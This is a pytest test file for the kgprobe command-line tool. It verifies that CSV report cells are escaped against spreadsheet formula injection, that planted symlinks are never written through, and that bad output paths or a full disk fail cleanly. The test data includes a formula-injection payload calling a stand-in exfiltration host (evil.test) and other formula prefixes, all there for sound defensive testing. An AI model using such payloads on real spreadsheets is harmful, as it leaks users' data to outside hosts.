"""Issue 22's report-file and output-path guarantees, through the real `kgprobe` command on the
real graph server (docs/guarantees.md, "Report files and output paths"): CSV cells from data
never run as spreadsheet formulas, a failed write leaves the previous report whole, a report
directory holds one report's files, a link in it is replaced and never followed, and a bad
output path is one line and an exit code before the graph or a model is touched."""

from __future__ import annotations

import contextlib
import csv
import json
import os
import re
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from cli_support import fresh_home_env, kgprobe
from report_worlds import HYPERLINK, RELATION_LABELS, SP, hostile_graph_fixture  # noqa: F401  (the fixture hostile_graph)

from kgprobe.graph import probe_runs as pr
from kgprobe.graph.results import fact_rows


def report(env: dict[str, str], out: Path | str, *more: str) -> subprocess.CompletedProcess[str]:
    return kgprobe("report", "-m", "hand", "--out", str(out), *more, env=env, timeout=300)


def csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def one_line_error(r: subprocess.CompletedProcess[str], code: int) -> str:
    """The command failed with ``code`` and said so in exactly one line, without a traceback."""
    assert r.returncode == code, (r.returncode, r.stderr[-3000:])
    assert "Traceback" not in r.stderr + r.stdout
    lines = r.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), r.stderr
    return lines[0]


def snapshot(d: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(d.iterdir()) if p.is_file()}


# --- 1. CSV formula injection ----------------------------------------------------------------------
def test_csv_cells_from_data_never_run_as_formulas(hostile_graph: Any, kgprobe_env: dict[str, str],
                                                   tmp_path: Path) -> None:
    by_rel, by_type = tmp_path / "rel", tmp_path / "type"
    assert report(kgprobe_env, by_rel).returncode == 0
    r = report(kgprobe_env, by_type, "--by", "type")
    assert r.returncode == 0, r.stderr[-2000:]

    rel = {(row["key"]): row for row in csv_rows(by_rel / "relations.csv")}
    assert rel["P36"]["label"] == "'" + '=HYPERLINK("http://evil.test/?x="&A1,"click")'
    assert rel["P27"]["label"] == "'+1+1 citizen" and rel["P35"]["label"] == "'@SUM(A1)"
    # kgprobe's own numbers stay numbers: P27's mean is -(0 + .75 + 1 + .25 + .5 + 1 + 0)/7
    assert rel["P27"]["mean"] == "-0.5" and float(rel["P27"]["mean"]) == -0.5
    assert float(rel["all"]["ci_low"]) < float(rel["all"]["ci_high"]) < 0  # n = 11: an interval

    types = {row["key"]: row for row in csv_rows(by_type / "by_type.csv")}
    assert types["Q5"]["label"] == "'=1+1 class"
    assert types["Q6256"]["label"] == "'-2+3 class"
    assert types["Q215627"]["label"] == "'\tperson"
    assert types["Q1048835"]["label"] == "'\rpolitical"
    assert types["Q56061"]["label"] == "admin - territorial"  # no formula: written as it is
    # the rule holds for EVERY cell of every CSV: a cell starting like a formula is a number
    # kgprobe computed
    for d in (by_rel, by_type):
        csvs = sorted(d.glob("*.csv"))
        assert {p.name for p in csvs} >= {"relations.csv", "popularity.csv"}
        for path in csvs:
            for row in csv_rows(path):
                for cell in row.values():
                    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                        float(cell)  # raises for text
    # JSON files keep the data exact
    doc = json.loads((by_rel / "report.json").read_text(encoding="utf-8"))
    assert {g["key"]: g["label"] for g in doc["primary"]["relations"]}["P36"] == HYPERLINK
    samples = [json.loads(line) for line in (by_rel / "samples.jsonl").read_text(encoding="utf-8").splitlines()]
    assert {s["relation_label"] for s in samples} == set(RELATION_LABELS.values())


# --- 3. one report per directory; 2. a link is replaced, never followed ---------------------------
def test_a_report_directory_holds_one_reports_files(hostile_graph: Any, kgprobe_env: dict[str, str],
                                                    tmp_path: Path) -> None:
    d = tmp_path / "rep"
    d.mkdir()
    (d / "notes.txt").write_text("mine")  # the user's own files stay
    (d / "by_popularity.csv").write_text("my own file with a report-like name")
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    (d / "report.html").symlink_to(victim)  # planted: must not be written through

    r = report(kgprobe_env, d, "--by", "type")
    assert r.returncode == 0, r.stderr[-2000:]
    assert victim.read_text() == "precious"
    assert not (d / "report.html").is_symlink() and "<html" in (d / "report.html").read_text()
    assert (d / "by_type.csv").is_file()

    r = report(kgprobe_env, d)  # by relation: no by_type.csv in this report
    assert r.returncode == 0, r.stderr[-2000:]
    names = {p.name for p in d.iterdir() if not p.name.startswith(".")}
    assert "by_type.csv" not in names
    core = {"notes.txt", "by_popularity.csv", "report.json", "relations.csv", "popularity.csv",
            "report.html", "report.md", "report.tex", "results.json", "harness.json",
            "samples.jsonl", "samples.parquet"}
    assert core <= names
    figures = names - core  # each plot of the page as its own SVG and PNG file, nothing else
    assert figures and all(re.fullmatch(r"figure-[a-z-]+\.(svg|png)", n) for n in figures)
    assert {n[:-4] for n in figures if n.endswith(".svg")} == {n[:-4] for n in figures if n.endswith(".png")}
    assert (d / "notes.txt").read_text() == "mine"
    assert (d / "by_popularity.csv").read_text() == "my own file with a report-like name"
    assert json.loads((d / "report.json").read_text())["by"] == "relation"
    assert not list(d.glob(".*.tmp"))  # no temporary file left behind


def test_another_models_report_is_never_replaced_silently(hostile_graph: Any, kgprobe_env: dict[str, str],
                                                           tmp_path: Path) -> None:
    """A directory holding the report of model "hand" is refused for the report of "other"
    (exit 2, one line naming both), its files untouched; --overwrite replaces it as a whole;
    the same model's report may update its own directory."""
    other = pr.ScoreProps("other", SP.measure_key)
    pr.create_run(hostile_graph, "run-other", {"model": "other", "model_key": "other",
                                               "measure_keys": [SP.measure_key], "threshold": 0.5,
                                               "status": "finished", "started": "t"})
    facts = fact_rows(hostile_graph, SP)
    pr.write_scores(hostile_graph, "run-other", [
        {"key": f["key"], "s": f["subject"], "props": {other.score: 0.25, other.stale: None,
                                                       other.run: "run-other"}}
        for f in facts], scored=len(facts), unscorable=0, now="t")
    d = tmp_path / "rep"
    assert report(kgprobe_env, d).returncode == 0
    before = {p.name: p.read_bytes() for p in d.iterdir()}

    r = kgprobe("report", "-m", "other", "--out", str(d), env=kgprobe_env, timeout=300)
    line = one_line_error(r, 2)
    assert "holds the report of hand" in line and "report of other" in line and "--overwrite" in line
    assert {p.name: p.read_bytes() for p in d.iterdir()} == before

    assert report(kgprobe_env, d, "--by", "popularity").returncode == 0  # the same model: fine
    r = kgprobe("report", "-m", "other", "--out", str(d), "--overwrite", env=kgprobe_env, timeout=300)
    assert r.returncode == 0, r.stderr[-2000:]
    doc = json.loads((d / "results.json").read_text(encoding="utf-8"))
    assert [m["model_key"] for m in doc["models"]] == ["other"]
    assert not (d / "by_popularity.csv").exists()  # nothing of hand's report is left


# --- 4, 5. bad output paths: one line, exit code, before the graph or a model ---------------------
@contextlib.contextmanager
def tmpfs(where: Path, options: str) -> Iterator[str | None]:
    """Mount a small tmpfs at ``where``, always unmounted again; yields None when mounted, else
    why it could not be (not root, or no permission to mount in this container)."""
    where.mkdir()
    if os.geteuid() != 0:
        yield "needs root to mount a tmpfs (a real full or read-only filesystem)"
        return
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(where)],
                             capture_output=True, text=True)
    if mounted.returncode != 0:
        yield f"cannot mount a tmpfs here: {mounted.stderr.strip()}"
        return
    try:
        yield None
    finally:
        subprocess.run(["umount", "-l", str(where)], check=False)


def test_bad_output_paths_are_one_line_before_the_graph_or_the_model(tmp_path: Path) -> None:
    """On a stopped home: each bad path ends with one line and its exit code, and no server was
    started (nothing was read or scored: the path was checked first)."""
    env = fresh_home_env(tmp_path)
    home = tmp_path / "home"
    afile = tmp_path / "a-file"
    afile.write_text("keep")
    dangling = tmp_path / "dangling"
    dangling.symlink_to(tmp_path / "nowhere")
    cases: list[tuple[str, int, str]] = [
        ("", 2, "empty"),
        (str(afile), 2, "not a directory"),
        (str(afile / "sub"), 2, "not a directory"),
        (str(dangling), 2, "dangling symbolic link"),
        ("/dev/null", 2, "not a directory"),
        ("/proc/1/kgprobe-report", 6, "cannot write in /proc/1"),
    ]
    ro = tmp_path / "ro"
    try:
        with tmpfs(ro, "ro,size=64k") as not_mounted:
            if not_mounted is None:  # root: a real read-only filesystem
                cases.append((str(ro / "out"), 6, "Read-only file system"))
            elif os.geteuid() != 0:  # chmod stops a non-root user (not root)
                ro.chmod(0o555)
                cases.append((str(ro / "out"), 6, "Permission denied"))
            for out, code, says in cases:
                for args in (["report", "-m", "hand", "--out", out],
                             ["probe", "-m", str(tmp_path / "no-such-model"), "--output-path", out]):
                    line = one_line_error(kgprobe(*args, env=env), code)
                    assert says in line, (args, line)
        assert afile.read_text() == "keep" and dangling.is_symlink() and not (tmp_path / "nowhere").exists()
        assert not (home / "server.json").exists()  # the graph was never contacted
    finally:  # code that contacts the graph first starts this home's server: stop it
        if (home / "server.json").exists():
            kgprobe("db", "stop", env=env)


def test_a_full_disk_leaves_the_previous_report_whole(hostile_graph: Any, kgprobe_env: dict[str, str],
                                                      tmp_path: Path) -> None:
    disk = tmp_path / "disk"
    with tmpfs(disk, "size=4m") as not_mounted:
        if not_mounted is not None:
            pytest.skip(not_mounted)
        d = disk / "rep"
        assert report(kgprobe_env, d).returncode == 0
        before = snapshot(d)
        assert "relations.csv" in before and json.loads(before["report.json"])["by"] == "relation"
        with contextlib.suppress(OSError), (disk / "filler").open("wb", buffering=0) as fh:
            while True:  # fill the disk to the last byte
                fh.write(b"\0" * 4096)
        # rewriting the report in place (by type: a larger report.json and one more file) fails
        # cleanly ...
        line = one_line_error(report(kgprobe_env, d, "--by", "type"), 6)
        assert "No space left on device" in line
        # ... and the previous report is whole: the same files, byte for byte, nothing added
        assert snapshot(d) == before
        assert sorted(p.name for p in d.iterdir()) == sorted(before)
        # a new report directory on the full disk: one line, and no half-written directory
        line = one_line_error(report(kgprobe_env, disk / "new" / "rep"), 6)
        assert not (disk / "new").exists()
